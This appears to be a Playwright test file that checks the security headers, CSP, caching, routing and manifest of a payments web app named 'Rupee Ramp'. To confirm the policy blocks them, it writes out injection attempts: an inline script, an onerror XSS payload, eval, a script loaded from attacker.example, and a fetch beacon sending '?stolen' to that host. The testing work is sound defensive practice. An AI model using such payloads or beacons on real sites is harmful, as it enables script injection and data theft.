import { watchPolicy } from './support/policy';
import { authHost, firestoreHost, tronUrl } from './support/site';
import { expect, test } from './support/test';

const PANEL = '/admin2067/deposits/50%25%20of.it%2F%3F';
const PAGES = ['/', '/login', '/deposit', '/admin2067', PANEL, '/no-such-page', '/assets'];

function directivesOf(policy = ''): Record<string, string[]> {
  const directives = policy.split(';').map((directive) => directive.trim().split(/\s+/));
  return Object.fromEntries(directives.map(([name = '', ...sources]) => [name, sources]));
}

const HASH = /^'sha256-[A-Za-z0-9+/]{43}='$/;

test('what Hosting answers: headers, caching and status of each address, and the icons of the manifest', async ({
  request,
}) => {
  await test.step('every page has every security header', async () => {
    for (const path of PAGES) {
      const response = await request.get(path);
      const headers = response.headers();
      expect(headers, path).toMatchObject({
        'strict-transport-security': 'max-age=63072000; includeSubDomains; preload',
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'DENY',
        'referrer-policy': 'strict-origin-when-cross-origin',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
        'cross-origin-embedder-policy': 'require-corp',
        'permissions-policy': expect.stringContaining('camera=()'),
      });
      const {
        'script-src': scripts = [],
        'style-src': styles = [],
        ...policy
      } = directivesOf(headers['content-security-policy']);
      expect(policy, path).toEqual({
        'default-src': ["'none'"],
        'img-src': ["'self'", 'data:'],
        'font-src': ["'self'"],
        'connect-src': [
          "'self'",
          'https://identitytoolkit.googleapis.com',
          'https://securetoken.googleapis.com',
          'https://firestore.googleapis.com',
          // Only in local runs.
          `http://${authHost}`,
          `http://${firestoreHost}`,
          tronUrl,
        ],
        'manifest-src': ["'self'"],
        'worker-src': ["'self'"],
        'base-uri': ["'none'"],
        'form-action': ["'none'"],
        'frame-ancestors': ["'none'"],
        'object-src': ["'none'"],
        'require-trusted-types-for': ["'script'"],
        'trusted-types': ['service-worker'],
        // Only the deployed policy has upgrade-insecure-requests (launcher.test.ts).
      });
      for (const [first, ...others] of [scripts, styles]) {
        expect(first).toBe("'self'");
        expect(others.filter((source) => !HASH.test(source))).toEqual([]);
      }
    }
  });

  await test.step('assets are cached permanently, pages and the service worker are revalidated each time', async () => {
    const worker = await (await request.get('/sw.js')).text();
    const assets = new Set(worker.match(/\/assets\/[^"'`]+/g));
    expect(assets.size).toBeGreaterThan(4);
    for (const asset of assets) {
      expect(asset).toMatch(/-[\w-]{8}\.\w+$/);
      const { 'cache-control': cache } = (await request.get(asset)).headers();
      expect(cache).toBe('public, max-age=31536000, immutable');
    }
    for (const path of ['/', '/login', '/deposit', PANEL, '/index.html', '/sw.js', '/icon.svg']) {
      const { 'cache-control': cache } = (await request.get(path)).headers();
      expect(cache, path).toBe('no-cache');
    }
    // A file of an earlier build does not fall back to a page.
    const gone = await request.get('/assets/gone-12345678.js');
    expect(gone.status()).toBe(404);
    // It may be a file of the next version that Hosting does not have yet.
    expect(gone.headers()['cache-control']).toBe('no-cache');
  });

  await test.step('a page has status 200, also as /Upi and with a query, and an unknown path 404', async () => {
    const statusOf = async (path: string) => (await request.get(path)).status();
    for (const path of [
      '/',
      '/login',
      '/upi',
      '/Upi',
      '/deposit?tab=usdt',
      '/requests/AbC',
      '/withdrawals/AbC',
      '/admin2067',
      PANEL,
    ]) {
      expect(await statusOf(path), path).toBe(200);
    }
    for (const path of [
      '/no-such-page',
      '/no/such?page',
      '/assets',
      '/upi/no-such-page',
      '/requests/a/b',
    ]) {
      expect(await statusOf(path), path).toBe(404);
    }
  });

  await test.step('the icons of the manifest exist, and one of them is maskable', async () => {
    const html = await (await request.get('/login')).text();
    const [, address = ''] = /<link rel="manifest" href="([^"]+)"/.exec(html) ?? [];
    const manifest = await (await request.get(address)).json();
    expect(manifest).toMatchObject({ name: 'Rupee Ramp', display: 'standalone', start_url: '/' });
    expect(manifest.icons.map(({ purpose }: { purpose: string }) => purpose)).toContain('maskable');
    for (const { src, type } of manifest.icons) {
      const icon = await request.get(src);
      expect(icon.ok(), src).toBe(true);
      expect(icon.headers()['content-type']).toBe(type);
    }
  });
});

test.describe('injected content', () => {
  // Chromium logs what it blocked, which this test expects.
  test.use({
    expectedOnConsole: /Content Security Policy|Refused to|violates|Trusted|X-Frame/,
  });

  test('cannot run an inline script, eval or a third-party script, write markup, or frame the app', async ({
    page,
    baseURL,
  }) => {
    const violations = await watchPolicy(page);
    await page.goto('/login');
    const outcome = await page.evaluate(async () => {
      // The policy does not apply to what the debugger runs synchronously, but does after a pause.
      await new Promise((resolve) => setTimeout(resolve));
      const inline = document.createElement('script');
      const attempts: Record<string, () => unknown> = {
        inline: () => {
          inline.append('document.title = "owned"');
          document.body.append(inline);
        },
        handler: () => {
          const button = document.createElement('button');
          button.setAttribute('onclick', 'document.title = "owned"');
          document.body.append(button);
          button.click();
        },
        // oxlint-disable-next-line no-eval -- what the policy must forbid
        eval: () => (0, eval)('document.title = "owned"'),
        markup: () => (document.body.innerHTML += '<img src=x onerror="document.title=1">'),
        foreign: () => {
          const script = document.createElement('script');
          script.src = 'https://attacker.example/x.js';
          document.body.append(script);
        },
        beacon: () => fetch('https://attacker.example/?stolen'),
      };
      const results: Record<string, string> = {};
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          results[name] = 'ran';
        } catch (error) {
          results[name] = error instanceof Error ? error.name : 'threw';
        }
      }
      return { results, title: document.title };
    });
    expect(outcome.title).not.toMatch(/owned|1/);
    expect(outcome.results, JSON.stringify(outcome.results)).toMatchObject({
      eval: 'EvalError',
      markup: 'TypeError',
      foreign: 'TypeError',
      beacon: 'TypeError',
    });
    const refused = (await violations()).join('\n');
    expect(refused).toMatch(/connect-src/);
    expect(refused).toMatch(/require-trusted-types-for|script-src/);

    // Another page can be framed.
    await page.route('https://attacker.example/**', (route) => {
      const isControl = new URL(route.request().url()).pathname === '/control';
      const frame = (src: string) => `<iframe src="${src}"></iframe>`;
      const body = isControl ? 'control' : frame(`${baseURL}/login`) + frame('/control');
      return route.fulfill({ contentType: 'text/html', body });
    });
    await page.goto('https://attacker.example/');
    const [, app, control] = page.frames();
    await expect.poll(() => control?.locator('body').textContent()).toBe('control');
    expect(app?.url()).not.toContain('/login');
    await expect(app?.getByText('Login') ?? page.getByText('Login')).toHaveCount(0);
  });
});
